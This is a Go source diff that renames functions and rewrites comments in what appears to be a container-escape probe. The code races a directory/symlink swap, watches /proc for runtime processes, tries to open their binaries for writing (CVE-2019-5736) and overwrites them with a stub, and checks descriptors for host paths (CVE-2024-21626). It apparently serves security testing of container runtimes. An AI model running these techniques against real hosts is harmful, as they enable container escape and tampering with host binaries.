@@ -11,18 +11,18 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// races go on beside what follows them, until the program ends.
+// races continue in the background until the program exits.
 var races = map[string]attempt{
-	"swap":   words(2, swap),
-	"hunt":   words(1, hunt),
-	"hunted": words(0, hunted),
+	"swap":           words(2, swap),
+	"watch-runtime":  words(1, watchRuntime),
+	"runtime-access": words(0, runtimeAccess),
 }
 
-// swap makes a path a folder and a link to somewhere else in turn, in one step each time. The folder gets content again and
-// again, so that whoever removes it has to do.
+// swap exchanges a directory and a symbolic link at a path, atomically and repeatedly. It keeps adding files to the directory, so that
+// its removal takes time.
 func swap(w []string) (string, error) {
 	other := w[0] + ".other"
-	if err := os.MkdirAll(w[0], 0o777); err != nil { //nolint:gosec // it is hostile
+	if err := os.MkdirAll(w[0], 0o777); err != nil { // writable by others on purpose
 		return "", err
 	}
 	if err := os.Symlink(w[1], other); err != nil && !os.IsExist(err) {
@@ -39,27 +39,27 @@ func swap(w []string) (string, error) {
 	return "", nil
 }
 
-// game is what hunt has met.
-var game struct {
+// seen is what watchRuntime has found.
+var seen struct {
 	sync.Mutex
-	met map[string]bool
+	found map[string]bool
 }
 
-// hunt waits for processes that come into the container, as those of the runtime do, and tries to open their programs for
-// writing (CVE-2019-5736), and a path of the machine by their working directories and descriptors (CVE-2024-21626).
-func hunt(w []string) (string, error) {
-	game.met = map[string]bool{}
+// watchRuntime waits for processes that enter the container, such as those of the OCI runtime. It tries to open their binaries for
+// writing (CVE-2019-5736), and a path of the host through their working directories and descriptors (CVE-2024-21626).
+func watchRuntime(w []string) (string, error) {
+	seen.found = map[string]bool{}
 	go func() {
 		for {
 			dirs, _ := filepath.Glob("/proc/[0-9]*")
 			for _, dir := range dirs {
 				if dir != "/proc/1" && dir != fmt.Sprint("/proc/", os.Getpid()) {
-					hunted := pounce(dir, w[0])
-					game.Lock()
-					for _, what := range hunted {
-						game.met[what] = true
+					found := access(dir, w[0])
+					seen.Lock()
+					for _, what := range found {
+						seen.found[what] = true
 					}
-					game.Unlock()
+					seen.Unlock()
 				}
 			}
 		}
@@ -67,19 +67,19 @@ func hunt(w []string) (string, error) {
 	return "", nil
 }
 
-// pounce tries what it can with one process.
-func pounce(dir, mark string) (met []string) {
+// access tries to access the host through a process.
+func access(dir, mark string) (found []string) {
 	if program, err := os.Readlink(dir + "/exe"); err == nil {
-		met = append(met, "saw "+strings.TrimSuffix(program, " (deleted)"))
+		found = append(found, "saw "+strings.TrimSuffix(program, " (deleted)"))
 	}
-	// A descriptor for reading keeps the program when the process goes on to another one, which makes it writable.
+	// A read descriptor keeps the binary when the process executes another one. The first binary is writable then.
 	fd, err := unix.Open(dir+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
 	if err == nil {
 		path := fmt.Sprintf("/proc/self/fd/%d", fd)
 		if program, _ := os.Readlink(path); !own(program) {
 			for range 100 {
 				if out, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
-					met = append(met, "opened "+program+" for writing"+overwrite(out))
+					found = append(found, "opened "+program+" for writing"+overwrite(out))
 					break
 				}
 			}
@@ -88,16 +88,16 @@ func pounce(dir, mark string) (met []string) {
 	}
 	for _, link := range append(links(dir), dir+"/cwd", dir+"/root") {
 		if outside(link, mark) {
-			met = append(met, "reached the machine by "+filepath.Base(link))
+			found = append(found, "reached the host through "+filepath.Base(link))
 		}
 	}
-	return met
+	return found
 }
 
-// own are the programs of the container itself.
+// own reports whether a program is the container's.
 func own(program string) bool { return strings.HasPrefix(program, "/bin/") }
 
-// overwrite writes to a program that is not the container's.
+// overwrite writes to a binary that is not the container's.
 func overwrite(fd int) string {
 	defer unix.Close(fd)
 	if _, err := unix.Write(fd, []byte("#!/bin/false\n")); err != nil {
@@ -111,7 +111,7 @@ func links(dir string) []string {
 	return all
 }
 
-// outside reports whether a link leads to a folder above which a path of the machine is found, which the container has not.
+// outside reports whether a link leads to a directory above which a path of the host exists.
 func outside(link, mark string) bool {
 	fd, err := unix.Open(link, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
 	if err != nil {
@@ -127,12 +127,12 @@ func outside(link, mark string) bool {
 	return false
 }
 
-// hunted tells what was met.
-func hunted([]string) (string, error) {
-	game.Lock()
-	defer game.Unlock()
+// runtimeAccess returns what watchRuntime has found.
+func runtimeAccess([]string) (string, error) {
+	seen.Lock()
+	defer seen.Unlock()
 	var all []string
-	for what := range game.met {
+	for what := range seen.found {
 		all = append(all, what)
 	}
 	slices.Sort(all)
